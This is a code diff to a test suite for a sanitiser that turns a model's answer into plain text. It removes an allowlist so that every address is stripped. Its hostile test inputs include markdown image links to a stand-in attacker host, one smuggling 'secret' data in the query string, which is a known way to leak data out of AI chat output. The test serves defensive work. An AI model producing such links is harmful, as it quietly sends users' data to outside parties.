@@ -143,9 +143,8 @@ describe('the check of a model’s answer', () => {
   });
 
   it('makes links, images, HTML and what cannot be seen into plain text', () => {
-    const known = new Set(['https://acme.example/form']);
-    const plain = (text: string) => toPlainText(text, known);
-    expect(plain('Use https://acme.example/form.')).to.equal('Use https://acme.example/form.');
+    const plain = toPlainText;
+    expect(plain('Use https://acme.example/form.')).to.equal('Use (address left out).');
     const hostile = [
       '![a](https://evil.example/x.png?d=secret)',
       '![a](//evil.example/x)',
